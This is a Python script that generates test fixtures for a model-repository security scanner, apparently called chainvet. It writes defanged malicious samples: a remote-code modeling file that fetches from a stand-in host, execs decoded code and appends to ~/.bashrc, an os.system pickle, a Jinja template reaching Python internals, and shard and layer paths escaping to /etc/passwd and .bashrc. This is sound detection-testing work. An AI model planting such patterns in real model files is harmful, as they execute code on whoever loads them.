#!/usr/bin/python3
"""Write chainvet's model-repository fixtures and MANIFEST.tsv.

Run from anywhere (paths are resolved from this file):

    /usr/bin/python3 testdata/repo/gen.py

It needs only Python's standard library. It deletes and rewrites every
folder it owns here, and MANIFEST.tsv. Output is deterministic: fixed
commit ids, no timestamps in archives, sorted JSON.

What it writes (each a small tree):

  hfcache/        a Hugging Face hub cache: models--acme--tiny-llm with
                  refs/main, blobs/ and a snapshot of links into blobs/
                  (config.json, model.safetensors, tokenizer_config.json with
                  a benign chat template, chat_template.jinja, README.md with
                  a model card)
  remote_code/    auto_map to modeling_evil.py, which runs a process, fetches
                  and execs decoded code and appends to ~/.bashrc; a native
                  .so beside the weights
  lfs_pointer/    weights that are Git LFS pointers, never fetched
  sharded/        a sharded checkpoint with one shard missing
  sharded_ok/     a complete sharded checkpoint
  shard_escape/   a shard index naming a file outside the folder
  mismatch/       a .json that is a zip, a .bin that is an ELF, a
                  .safetensors that is gzip
  notebook/       a notebook with !pip install and os.system, and a shell
                  script, beside weights
  bad_config/     a config.json that is not JSON; a card whose front matter
                  repeats a key
  evil_template/  a tokenizer_config.json whose chat template climbs to
                  Python's internals
  mar/            TorchServe archives: a benign one with a built-in handler,
                  and one whose handler runs a process and whose weights are
                  a pickle calling os.system
  oci/            OCI image layouts: a Docker model artifact (GGUF), a
                  ModelPack artifact (safetensors and a pickle layer), and a
                  broken ModelPack artifact (missing blob, wrong size,
                  escaping file path)

Safety: nothing here is ever run or loaded. The "malicious" Python and
pickles name harmless commands (true, echo) and unroutable hosts
(example.invalid); the ELF is a bare header with no code.
"""

import base64
import hashlib
import io
import json
import os
import pathlib
import pickle
import shutil
import struct
import zipfile

HERE = pathlib.Path(__file__).resolve().parent
OWNED = ["hfcache", "remote_code", "lfs_pointer", "sharded", "sharded_ok", "shard_escape",
         "mismatch", "notebook", "bad_config", "evil_template", "mar", "oci"]
COMMIT = hashlib.sha1(b"acme/tiny-llm@main").hexdigest()
ZIP_TIME = (2024, 1, 1, 0, 0, 0)

manifest = []


def row(path, verdict, lo, hi, rules, evidence, desc):
    manifest.append((path, verdict, lo, hi, ",".join(rules), evidence, desc))


def write(path, data):
    path = HERE / path
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(data, str):
        data = data.encode()
    path.write_bytes(data)
    return data


def jdump(obj):
    return json.dumps(obj, indent=2, sort_keys=True) + "\n"


def safetensors(tensors, metadata=None):
    """A safetensors file per the spec: u64 header length, JSON header,
    data. tensors maps name -> list of float32 values (1-D)."""
    header, data = {}, b""
    for name in sorted(tensors):
        vals = tensors[name]
        raw = struct.pack("<%df" % len(vals), *vals)
        header[name] = {"dtype": "F32", "shape": [len(vals)], "data_offsets": [len(data), len(data) + len(raw)]}
        data += raw
    if metadata:
        header["__metadata__"] = metadata
    h = json.dumps(header, separators=(",", ":"), sort_keys=True).encode()
    h += b" " * (-len(h) % 8)
    return struct.pack("<Q", len(h)) + h + data


def gguf(kvs, tensors):
    """A GGUF v3 file: kvs maps key -> (type, value) with types 4 (u32) and
    8 (string); tensors maps name -> list of float32 values (1-D)."""
    def s(x):
        b = x.encode()
        return struct.pack("<Q", len(b)) + b
    out = b"GGUF" + struct.pack("<IQQ", 3, len(tensors), len(kvs))
    for k in sorted(kvs):
        t, v = kvs[k]
        out += s(k) + struct.pack("<I", t)
        out += struct.pack("<I", v) if t == 4 else s(v)
    data, infos = b"", b""
    for name in sorted(tensors):
        vals = tensors[name]
        infos += s(name) + struct.pack("<I", 1) + struct.pack("<Q", len(vals)) + struct.pack("<I", 0)
        infos += struct.pack("<Q", len(data))
        raw = struct.pack("<%df" % len(vals), *vals)
        data += raw + b"\0" * (-len(raw) % 32)
    out += infos
    out += b"\0" * (-len(out) % 32)
    return out + data


# A bare ELF64 header (ET_DYN, x86-64): what `file` calls a shared object.
ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 9 + struct.pack("<HHI", 3, 62, 1) + b"\0" * 40

CONFIG = {
    "architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 4,
    "num_attention_heads": 1, "num_hidden_layers": 1, "max_position_embeddings": 128,
    "vocab_size": 8, "torch_dtype": "float32", "transformers_version": "4.44.0",
}

BENIGN_TEMPLATE = (
    "{% for message in messages %}"
    "{{ '<|' + message['role'] + '|>\\n' + message['content'] + '<|end|>\\n' }}"
    "{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|assistant|>\\n' }}{% endif %}"
)

CARD = """---
license: apache-2.0
base_model:
- acme/base-llm
datasets:
  - acme/chat-mix
  - acme/code-mix
tags: [text-generation, tiny]
language:
- en
pipeline_tag: text-generation
library_name: transformers
model-index:
- name: tiny-llm
  results:
  - task: {type: text-generation}
    metrics:
    - type: perplexity
      value: 12.5
---

# tiny-llm

A four-wide test model for chainvet. It knows nothing.
"""

WEIGHTS = {"model.embed.weight": [0.25, -0.5, 0.75, 1.0], "model.norm.weight": [1.0, 1.0]}


def git_blob_id(data):
    return hashlib.sha1(b"blob %d\0" % len(data) + data).hexdigest()


def hfcache():
    root = pathlib.Path("hfcache/models--acme--tiny-llm")
    files = {
        "config.json": (jdump(CONFIG).encode(), False),
        "model.safetensors": (safetensors(WEIGHTS, {"format": "pt"}), True),
        "tokenizer_config.json": (jdump({"chat_template": BENIGN_TEMPLATE, "eos_token": "<|end|>",
                                         "tokenizer_class": "PreTrainedTokenizerFast"}).encode(), False),
        "chat_template.jinja": (BENIGN_TEMPLATE.encode() + b"\n", False),
        "README.md": (CARD.encode(), False),
    }
    write(root / "refs" / "main", COMMIT)
    snap = HERE / root / "snapshots" / COMMIT
    snap.mkdir(parents=True, exist_ok=True)
    for name, (data, lfs) in files.items():
        blob = hashlib.sha256(data).hexdigest() if lfs else git_blob_id(data)
        write(root / "blobs" / blob, data)
        os.symlink(os.path.join("..", "..", "blobs", blob), snap / name)
    row("hfcache", "benign", "info", "low", [], "",
        "hub cache models--acme--tiny-llm: refs/main, blobs/, snapshot links (config, safetensors, tokenizer config and .jinja with a benign chat template, model card)")
    row(f"hfcache/models--acme--tiny-llm/snapshots/{COMMIT}/model.safetensors", "benign", "info", "low", [], "",
        "one snapshot file, a link to its blob named by its sha256")


MODELING_EVIL = '''"""Custom modeling code that does more than model."""
import base64
import os
import subprocess as sp

import requests
from torch import nn

from .configuration_evil import EvilConfig

_PAYLOAD = "cHJpbnQoJ2NoYWluLXZldCcp"  # print('chain-vet')


class EvilModel(nn.Module):
    config_class = EvilConfig

    def __init__(self, config):
        super().__init__()
        sp.run(["true"], check=False)
        code = requests.get("https://example.invalid/stage2.py", timeout=1).text
        exec(base64.b64decode(_PAYLOAD))
        with open(os.path.expanduser("~/.bashrc"), "a") as fh:
            fh.write("# chainvet fixture\\n")
        self.proj = nn.Linear(config.hidden_size, config.hidden_size)
'''

CONFIGURATION_EVIL = '''from transformers import PretrainedConfig


class EvilConfig(PretrainedConfig):
    model_type = "evil"

    def __init__(self, hidden_size=4, **kwargs):
        self.hidden_size = hidden_size
        super().__init__(**kwargs)
'''


def remote_code():
    cfg = dict(CONFIG, architectures=["EvilModel"], model_type="evil",
               auto_map={"AutoConfig": "configuration_evil.EvilConfig",
                         "AutoModelForCausalLM": "modeling_evil.EvilModel"})
    write("remote_code/config.json", jdump(cfg))
    write("remote_code/configuration_evil.py", CONFIGURATION_EVIL)
    write("remote_code/modeling_evil.py", MODELING_EVIL)
    write("remote_code/model.safetensors", safetensors(WEIGHTS))
    write("remote_code/libevil.so", ELF)
    row("remote_code", "malicious", "critical", "critical",
        ["repo/remote-code", "repo/code-exec", "repo/code-network", "repo/code-file", "repo/native-binary", "repo/script"],
        "subprocess.run", "auto_map to modeling_evil.py (process, network fetch, exec of base64-decoded code, append to ~/.bashrc) and a native .so beside the weights")
    row("remote_code/config.json", "malicious", "high", "high", ["repo/remote-code"], "modeling_evil.py",
        "config.json alone: auto_map means trust_remote_code")
    row("remote_code/modeling_evil.py", "malicious", "critical", "critical",
        ["repo/code-exec", "repo/code-network", "repo/code-file"], "b64decode",
        "the modeling file alone: process, network, exec of decoded data, write to the home folder")
    row("remote_code/libevil.so", "malicious", "high", "high", ["repo/native-binary"], "ELF",
        "a shared object (bare ELF header) beside the weights")


def lfs_pointer():
    write("lfs_pointer/config.json", jdump(CONFIG))
    data = safetensors(WEIGHTS)
    write("lfs_pointer/model.safetensors",
          "version https://git-lfs.github.com/spec/v1\noid sha256:%s\nsize %d\n" % (hashlib.sha256(data).hexdigest(), len(data)))
    row("lfs_pointer", "malicious", "medium", "medium", ["repo/lfs-pointer"], "oid sha256:",
        "model.safetensors is an LFS pointer: the weights were never fetched")


def sharded(folder, names, present, verdict, lo, hi, rules, evidence, desc):
    write(folder + "/config.json", jdump(CONFIG))
    wm, total = {}, 0
    for i, n in enumerate(names):
        wm["model.layers.%d.weight" % i] = n
    for n in present:
        data = safetensors({"w": [float(len(n))] * 2})
        total += len(data)
        write(folder + "/" + n, data)
    write(folder + "/model.safetensors.index.json", jdump({"metadata": {"total_size": total}, "weight_map": wm}))
    row(folder, verdict, lo, hi, rules, evidence, desc)


def mismatch():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(zipfile.ZipInfo("vocab.txt", ZIP_TIME), "a\nb\n")
    write("mismatch/tokenizer.json", buf.getvalue())
    write("mismatch/pytorch_model.bin", ELF)
    write("mismatch/model.safetensors", b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + b"\x03\x00" + b"\0" * 8)
    row("mismatch/tokenizer.json", "malicious", "high", "high", ["model/extension-mismatch"], "a zip archive",
        ".json that is a zip")
    row("mismatch/pytorch_model.bin", "malicious", "high", "high", ["model/extension-mismatch"], "ELF",
        ".bin that is an ELF shared object")
    row("mismatch/model.safetensors", "malicious", "high", "high", ["model/extension-mismatch"], "gzip",
        ".safetensors that is gzip (of nothing)")


def notebook():
    write("notebook/model.safetensors", safetensors(WEIGHTS))
    nb = {
        "cells": [
            {"cell_type": "markdown", "metadata": {}, "source": ["# Try the model\n"]},
            {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [],
             "source": ["!pip install acme-tools==0.0.0\n", "import os\n", "os.system('echo chainvet-fixture')\n"]},
            {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [],
             "source": "%%bash\necho still not python\n"},
        ],
        "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}},
        "nbformat": 4, "nbformat_minor": 5,
    }
    write("notebook/demo.ipynb", jdump(nb))
    write("notebook/setup.sh", "#!/bin/sh\necho chainvet-fixture\n")
    row("notebook", "malicious", "critical", "critical", ["repo/code-exec", "repo/script"], "os.system",
        "a notebook (shell escape, %%bash, os.system) and a shell script beside weights")
    row("notebook/demo.ipynb", "malicious", "critical", "critical", ["repo/code-exec", "repo/script"], "os.system",
        "the notebook alone")


def bad_config():
    write("bad_config/config.json", '{"model_type": "llama", "architectures": ["LlamaForCausalLM"],\n')
    write("bad_config/model.safetensors", safetensors(WEIGHTS))
    write("bad_config/README.md", "---\nlicense: mit\nlicense: apache-2.0\n---\n# Card\n")
    row("bad_config", "malicious", "medium", "medium", ["repo/malformed"], "unexpected end of JSON",
        "config.json cut short; a model card whose front matter repeats a key")


def evil_template():
    write("evil_template/config.json", jdump(CONFIG))
    write("evil_template/model.safetensors", safetensors(WEIGHTS))
    tpl = "{% for m in messages %}{{ m.content }}{% endfor %}{{ ''.__class__.__mro__[1].__subclasses__() }}"
    write("evil_template/tokenizer_config.json", jdump({"chat_template": [
        {"name": "default", "template": BENIGN_TEMPLATE}, {"name": "tool_use", "template": tpl}]}))
    row("evil_template", "malicious", "high", "critical", ["template/dunder-access"], "__class__",
        "tokenizer_config.json with a chat template list whose tool_use template reaches __subclasses__")


def mar(name, files, manifest_model):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        mf = {"createdOn": "01/01/2024 00:00:00", "runtime": "python", "archiverVersion": "0.11.0",
              "model": manifest_model}
        z.writestr(zipfile.ZipInfo("MAR-INF/MANIFEST.json", ZIP_TIME), jdump(mf))
        for n in sorted(files):
            z.writestr(zipfile.ZipInfo(n, ZIP_TIME), files[n])
    write("mar/" + name, buf.getvalue())


MAR_MODEL = '''import torch
from torch import nn


class Tiny(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(4, 2)

    def forward(self, x):
        return torch.relu(self.fc(x))
'''

MAR_HANDLER = '''import os
from ts.torch_handler.base_handler import BaseHandler


class Handler(BaseHandler):
    def initialize(self, context):
        os.system("true")
        super().initialize(context)
'''


def mars():
    weights = pickle.dumps({"fc.weight": [[0.5] * 4] * 2, "fc.bias": [0.0, 0.0]}, protocol=2)
    mar("image_classifier.mar", {"model.py": MAR_MODEL, "model.pt": weights},
        {"modelName": "tiny", "modelVersion": "1.0", "serializedFile": "model.pt",
         "handler": "image_classifier", "modelFile": "model.py"})
    # GLOBAL os system, the argument ('true',), REDUCE, STOP: assembled from
    # opcodes and never loaded.
    evil = b"\x80\x02cos\nsystem\nq\x00X\x04\x00\x00\x00trueq\x01\x85q\x02Rq\x03."
    mar("custom_handler.mar", {"model.py": MAR_MODEL, "handler.py": MAR_HANDLER, "model.pt": evil},
        {"modelName": "tiny-custom", "modelVersion": "2.0", "serializedFile": "model.pt",
         "handler": "handler.py", "modelFile": "model.py"})
    row("mar/image_classifier.mar", "benign", "info", "low", [], "",
        "TorchServe archive with a built-in handler, a model file and pickled weights (a plain dict)")
    row("mar/custom_handler.mar", "malicious", "critical", "critical",
        ["repo/script", "repo/code-exec", "pickle/dangerous-call"], "os.system",
        "TorchServe archive whose handler.py calls os.system and whose model.pt pickle calls os.system")


def oci_layout(folder, manifests):
    """Write an OCI image layout: manifests is a list of (manifest dict,
    index annotations, {digest: bytes} of blobs to write)."""
    write(folder + "/oci-layout", json.dumps({"imageLayoutVersion": "1.0.0"}))
    descs = []
    for m, ann, blobs in manifests:
        raw = json.dumps(m, sort_keys=True).encode()
        d = "sha256:" + hashlib.sha256(raw).hexdigest()
        write(folder + "/blobs/sha256/" + d[7:], raw)
        for digest, data in blobs.items():
            write(folder + "/blobs/sha256/" + digest[7:], data)
        desc = {"mediaType": m["mediaType"], "digest": d, "size": len(raw)}
        if ann:
            desc["annotations"] = ann
        descs.append(desc)
    write(folder + "/index.json", json.dumps({"schemaVersion": 2, "mediaType": "application/vnd.oci.image.index.v1+json",
                                              "manifests": descs}, sort_keys=True))


def desc(mt, data, **ann):
    d = {"mediaType": mt, "digest": "sha256:" + hashlib.sha256(data).hexdigest(), "size": len(data)}
    if ann:
        d["annotations"] = ann
    return d


def ocis():
    OM = "application/vnd.oci.image.manifest.v1+json"
    # Docker Model Runner: a GGUF layer and a licence.
    g = gguf({"general.architecture": (8, "llama"), "general.name": (8, "tiny"), "general.file_type": (4, 15),
              "llama.context_length": (4, 128)}, {"token_embd.weight": [0.5, 0.25]})
    cfg = json.dumps({"config": {"format": "gguf", "quantization": "Q4_K_M", "parameters": "2",
                                 "architecture": "llama", "size": str(len(g)), "context_size": 128},
                      "descriptor": {"created": "2024-01-01T00:00:00Z"},
                      "rootfs": {"type": "rootfs", "diff_ids": ["sha256:" + hashlib.sha256(g).hexdigest()]}},
                     sort_keys=True).encode()
    lic = b"Apache License 2.0 (fixture)\n"
    m = {"schemaVersion": 2, "mediaType": OM,
         "config": desc("application/vnd.docker.ai.model.config.v0.1+json", cfg),
         "layers": [desc("application/vnd.docker.ai.gguf.v3", g), desc("application/vnd.docker.ai.license", lic)]}
    blobs = {d["digest"]: b for d, b in [(m["config"], cfg), (m["layers"][0], g), (m["layers"][1], lic)]}
    oci_layout("oci/docker-model", [(m, {"org.opencontainers.image.ref.name": "docker.io/ai/tiny:Q4_K_M"}, blobs)])
    row("oci/docker-model", "benign", "info", "low", [], "",
        "OCI layout holding a Docker model artifact: GGUF weights layer, licence, model config")

    # CNCF ModelPack: safetensors weights, a pickled extra, config.
    st = safetensors(WEIGHTS)
    extra = pickle.dumps({"step": 1, "lr": [0.001]}, protocol=2)
    mcfg = json.dumps({"descriptor": {"name": "tiny-llm", "version": "1.0", "licenses": ["Apache-2.0"]},
                       "config": {"architecture": "transformer", "format": "safetensors", "paramSize": "6",
                                  "precision": "float32"},
                       "modelfs": {"type": "layers", "diffIds": []}}, sort_keys=True).encode()

    def modelpack(layers):
        return {"schemaVersion": 2, "mediaType": OM, "artifactType": "application/vnd.cncf.model.manifest.v1+json",
                "config": desc("application/vnd.cncf.model.config.v1+json", mcfg), "layers": layers,
                "annotations": {"org.opencontainers.image.title": "tiny-llm"}}
    good = modelpack([desc("application/vnd.cncf.model.weight.v1.raw", st, **{"org.cnai.model.filepath": "model.safetensors"}),
                      desc("application/vnd.cncf.model.weight.v1.raw", extra, **{"org.cnai.model.filepath": "training_state.pkl"})])
    blobs = {good["config"]["digest"]: mcfg, good["layers"][0]["digest"]: st, good["layers"][1]["digest"]: extra}
    oci_layout("oci/modelpack", [(good, {"org.opencontainers.image.ref.name": "registry.example/acme/tiny-llm:1.0"}, blobs)])
    row("oci/modelpack", "benign", "info", "low", [], "",
        "OCI layout holding a CNCF ModelPack artifact: safetensors and a pickled training state (a plain dict) as raw weight layers")

    gone = b"never written\n"
    wrong = safetensors({"w": [1.0, 2.0]})
    bad = modelpack([desc("application/vnd.cncf.model.weight.v1.raw", st, **{"org.cnai.model.filepath": "../../.bashrc"}),
                     desc("application/vnd.cncf.model.weight.v1.raw", gone, **{"org.cnai.model.filepath": "missing.safetensors"}),
                     dict(desc("application/vnd.cncf.model.weight.v1.raw", wrong, **{"org.cnai.model.filepath": "resized.safetensors"}),
                          size=len(wrong) + 8)])
    blobs = {bad["config"]["digest"]: mcfg, bad["layers"][0]["digest"]: st, bad["layers"][2]["digest"]: wrong}
    oci_layout("oci/modelpack-bad", [(bad, {}, blobs)])
    row("oci/modelpack-bad", "malicious", "high", "high", ["oci/path-traversal", "oci/blob-missing", "oci/blob-mismatch"],
        "../../.bashrc", "ModelPack artifact: a layer unpacking to ../../.bashrc, a missing blob, a blob 8 bytes short of its manifest size")


def main():
    for d in OWNED:
        shutil.rmtree(HERE / d, ignore_errors=True)
    hfcache()
    remote_code()
    lfs_pointer()
    sharded("sharded", ["model-00001-of-00002.safetensors", "model-00002-of-00002.safetensors"],
            ["model-00001-of-00002.safetensors"], "malicious", "medium", "medium", ["repo/missing-shard"],
            "model-00002-of-00002.safetensors", "sharded checkpoint whose second shard is missing")
    sharded("sharded_ok", ["model-00001-of-00002.safetensors", "model-00002-of-00002.safetensors"],
            ["model-00001-of-00002.safetensors", "model-00002-of-00002.safetensors"], "benign", "info", "low", [],
            "", "complete sharded checkpoint: index and both shards")
    sharded("shard_escape", ["model-00001-of-00001.safetensors", "../../../etc/passwd"],
            ["model-00001-of-00001.safetensors"], "malicious", "high", "high", ["repo/shard-path"], "../../../etc/passwd",
            "shard index mapping a tensor to ../../../etc/passwd")
    mismatch()
    notebook()
    bad_config()
    evil_template()
    mars()
    ocis()
    with open(HERE / "MANIFEST.tsv", "w") as fh:
        fh.write("path\tverdict\tmin_severity\tmax_severity\trules\tevidence\tdescription\n")
        for r in manifest:
            fh.write("\t".join(r) + "\n")
    print("wrote %d manifest rows" % len(manifest))


if __name__ == "__main__":
    main()
